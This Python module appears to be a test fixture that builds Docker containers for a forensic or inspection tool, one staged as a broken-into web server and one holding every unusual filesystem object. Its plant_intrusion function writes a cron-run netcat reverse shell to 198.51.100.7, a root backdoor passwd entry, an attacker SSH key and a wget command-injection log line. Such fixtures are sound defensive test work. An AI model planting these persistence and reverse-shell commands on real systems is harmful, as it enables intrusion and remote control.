"""What private daemons are filled with: an intrusion for people to find, and everything a filesystem can hold.

Standard library only, as `docker.py`.
"""

from __future__ import annotations

import os
import socket
import stat
import struct
import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.rigs.docker import PrivateDocker

SPARSE_SIZE = 1 << 30
_FOREVER = ("sleep", "1000000")


@dataclass(frozen=True, slots=True)
class Scene:
    """Container name -> id."""

    docker: PrivateDocker
    ids: dict[str, str]


# -- an intrusion -----------------------------------------------------------------------------------------------------


def build_intruded(docker: PrivateDocker) -> Scene:
    """A running web server that was broken into, one that ended with an error, a paused one, one with volumes."""
    docker.import_base()
    docker.build(
        "shop:2.4",
        "FROM base:1\nCOPY www /srv/www\nCOPY app.conf /opt/config/app.conf\nLABEL team=shop tier=web\n",
        {
            "www/index.html": b"<h1>shop</h1>\n",
            "www/cgi-bin/status.sh": b"#!/bin/sh\nuptime\n",
            "app.conf": b"debug=0\n",
        },
    )
    serve = (
        "echo 'GET /cgi-bin/status.sh?x=;wget+http://198.51.100.7/x 200'; exec httpd -f -p 127.0.0.1:8080 -h /srv/www"
    )
    ids = {
        "web": docker.run("web", "shop:2.4", "sh", "-c", serve, options=("--env", "DB_PASSWORD=hunter2")),
        "job": docker.run("job", "shop:2.4", "sh", "-c", "echo migrating; echo cannot connect >&2; exit 3"),
        "worker": docker.run("worker", "shop:2.4", "sh", "-c", "echo waiting; exec sleep 1000000"),
        "files": docker.run("files", "base:1", *_FOREVER, options=("--volume", "uploads:/data", "--volume", "/cache")),
    }
    docker.wait("job")
    plant_intrusion(docker, "web")
    docker.exec("files", "sh", "-c", "echo invoice > /data/invoice.txt; echo thumb > /cache/thumb.bin")
    docker.pause("worker")
    return Scene(docker, ids)


def plant_intrusion(docker: PrivateDocker, container: str) -> None:
    """What an intruder leaves behind."""
    docker.exec(
        container, "sh", "-c",
        "mkdir -p /tmp/.cache '/var/tmp/...' /var/spool/cron/crontabs /usr/local/bin"
        " && cp /bin/busybox /tmp/.cache/busyboxd"
        " && echo 'support:x:0:0::/root:/bin/sh' >> /etc/passwd"
        " && echo '*/5 * * * * /usr/local/bin/backup.sh' > /var/spool/cron/crontabs/root"
        " && echo '* * * * * root /usr/local/bin/backup.sh' > /etc/cron.d/sysupdate"
        " && printf '#!/bin/sh\\nnc 198.51.100.7 4444 -e /bin/sh\\n' > /usr/local/bin/backup.sh"
        " && chmod 755 /usr/local/bin/backup.sh"
        " && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE intruder' > '/var/tmp/.../authorized_keys'"
        " && rm /etc/motd /home/app/.profile",
    )  # fmt: skip
    run_and_delete(docker, container, "/tmp/.cache/busyboxd")


def run_and_delete(docker: PrivateDocker, container: str, path: str) -> None:
    """Starts `path`, a copy of busybox (and so its name begins), and deletes it while it runs."""
    docker.exec(container, path, *_FOREVER, background=True)
    wanted = f"{path}\0sleep"
    deadline = time.monotonic() + 10
    while not any(command.startswith(wanted) for command in _commands()):
        if time.monotonic() > deadline:
            raise TimeoutError(f"{path} did not start in {container}")
        time.sleep(0.02)
    docker.exec(container, "rm", path)


def _commands() -> list[str]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                found.append(Path(f"/proc/{name}/cmdline").read_text(errors="replace"))
            except OSError:
                continue
    return found


# -- everything -------------------------------------------------------------------------------------------------------


def build_everything(docker: PrivateDocker) -> Scene:
    """`rich` holds whatever a writable layer, a volume and a log can hold; `second` shares its volumes."""
    docker.import_base()
    steps = [f"COPY layers/{number} /opt/layers/{number}" for number in range(9)]
    docker.build(
        "rich:1",
        "\n".join(["FROM base:1", *steps, "LABEL purpose=tests\n"]),
        {f"layers/{number}/file": b"%d\n" % number * 50 for number in range(9)},
    )
    chatter = (
        'i=0; while [ $i -lt 400 ]; do echo "line $i of a log that is rotated"; i=$((i+1)); done; exec sleep 1000000'
    )
    json_log = ("max-size=2k", "max-file=4", "compress=true")
    ids = {
        "rich": docker.run(
            "rich", "rich:1", "sh", "-c", chatter,
            options=[
                "--volume", "shared:/data", "--volume", "/anonymous", "--tmpfs", "/scratch", "--ipc", "shareable",
                *(word for option in json_log for word in ("--log-opt", option)),
            ],
        ),
        "second": docker.run("second", "base:1", *_FOREVER, options=["--volumes-from", "rich"]),
        "local-log": docker.run(
            "local-log", "base:1", "sh", "-c", chatter,
            options=["--log-driver", "local", "--log-opt", "max-size=2k", "--log-opt", "max-file=3"],
        ),
        "remote-log": docker.run(
            "remote-log", "base:1", "sh", "-c", "echo kept here as well; exec sleep 1000000",
            options=["--log-driver", "gelf", "--log-opt", "gelf-address=udp://127.0.0.1:9"],
        ),
        "ended": docker.run("ended", "rich:1", "sh", "-c", "echo bye > /tmp/left; exit 7"),
        "never": docker.docker("create", "--network", "none", "--name", "never", "base:1", "true"),
    }  # fmt: skip
    docker.wait("ended")
    root = docker.root_of("rich")
    plant_everything(root)
    plant_everything(root / "data", base=False)
    (root / "anonymous/note").write_text("in the anonymous volume\n")
    (root / "dev/shm/implant").write_bytes(b"only in memory" * 100)
    docker.exec("rich", "sh", "-c", "cp /bin/busybox /tmp/busybox-gone && chmod 700 /tmp/busybox-gone")
    run_and_delete(docker, "rich", "/tmp/busybox-gone")
    time.sleep(1)  # logs are compressed a moment after they were rotated
    return Scene(docker, ids)


def plant_everything(root: Path, *, base: bool = True) -> None:
    """Everything a filesystem can hold, written by root from outside. `base`: above the files of `make_rootfs`."""
    if base:
        _delete_and_replace(root)
    place = root / "srv/every thing"
    place.mkdir(parents=True)
    (place / "one").write_text("three names\n")
    (place / "two").hardlink_to(place / "one")
    (root / "srv/three").hardlink_to(place / "one")
    with (place / "sparse").open("wb") as file:
        file.truncate(SPARSE_SIZE)
        for offset in (0, 1 << 20, SPARSE_SIZE // 2 + 12345, SPARSE_SIZE - 5):
            file.seek(offset)
            file.write(b"data!")
    (place / "only-hole").touch()
    os.truncate(place / "only-hole", 5 << 20)
    (place / "empty").touch()
    (place / "large").write_bytes(os.urandom(3 << 20))
    (place / "setuid").write_text("#!/bin/sh\n")
    (place / "setuid").chmod(0o4755)
    (place / "capable").write_text("#!/bin/sh\n")
    # struct vfs_cap_data, revision 2: cap_net_raw, effective and permitted.
    os.setxattr(place / "capable", "security.capability", struct.pack("<5I", 0x02000001, 1 << 13, 0, 0, 0))
    (place / "attributes").write_text("extended\n")
    os.setxattr(place / "attributes", "user.note", b"plain")
    os.setxattr(place / "attributes", "user.binary", bytes(range(256)))
    os.setxattr(place / "attributes", b"user.na\xefve=\n", b"=\n")
    os.setxattr(place / "attributes", "trusted.mark", b"\0\1\2")
    os.setxattr(place, "user.directory", b"has one too")
    for name in (
        b"not utf-8 \xff\xfe",
        b"new\nline",
        b"-rf",
        b"tab\tname",
        b"[root]",
        b".wh.not-a-whiteout",
        b"x" * 255,
    ):
        (Path(os.fsdecode(os.path.join(os.fsencode(place), name)))).write_bytes(name)
    (place / "secret").write_text("mode 000\n")
    (place / "secret").chmod(0)
    (place / "owned").write_text("by somebody\n")
    os.chown(place / "owned", 1234, 4_000_000_000)
    os.mkfifo(place / "fifo")
    _make_socket(place / "socket")
    os.mknod(place / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.mknod(place / "loop", stat.S_IFBLK | 0o660, os.makedev(7, 300))
    (place / "shadow").symlink_to("/etc/shadow")
    (place / "loop-a").symlink_to("loop-b")
    (place / "loop-b").symlink_to("loop-a")
    (place / "upwards").symlink_to("../" * 30 + "etc/passwd")
    (place / "long").symlink_to("long/" * 200)  # XFS has room for 1,023 bytes
    _make_deep(place / "deep")
    times = {"old": -1_500_000_001, "new": 7_000_000_000_123_456_789, "exact": 1_234_567_890_987_654_321}
    for word, value in times.items():
        (place / word).write_text(word)
        os.utime(place / word, ns=(value - 7, value))
    os.utime(place / "shadow", ns=(1, 1_000_000_001), follow_symlinks=False)


def _delete_and_replace(root: Path) -> None:
    """Whiteouts, an opaque directory, files that were copied up."""
    (root / "etc/motd").unlink()
    (root / "opt/old/deep/file").unlink()
    (root / "opt/old/deep").rmdir()
    (root / "opt/old").rmdir()
    for name in ("app.conf", "other.conf"):
        (root / "opt/config" / name).unlink()
    (root / "opt/config").rmdir()
    (root / "opt/config").mkdir()
    (root / "opt/config/app.conf").write_text("level = container\n")
    with (root / "etc/passwd").open("a") as file:
        file.write("support:x:0:0::/root:/bin/sh\n")
    (root / "etc/group").chmod(0o600)


def _make_socket(path: Path) -> None:
    """A socket's name must be short: it is bound from its directory."""
    with socket.socket(socket.AF_UNIX) as listener:
        directory = os.open(path.parent, os.O_PATH)
        try:
            listener.bind(f"/proc/self/fd/{directory}/{path.name}")
        finally:
            os.close(directory)


def _make_deep(path: Path) -> None:
    """A file beyond PATH_MAX: no path from the root names it."""
    path.mkdir()
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(25):
        name = "d" * 200
        os.mkdir(name, dir_fd=fd)
        deeper = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = deeper
    file = os.open("bottom", os.O_WRONLY | os.O_CREAT, 0o640, dir_fd=fd)
    os.write(file, b"deep\n")
    os.close(file)
    os.close(fd)
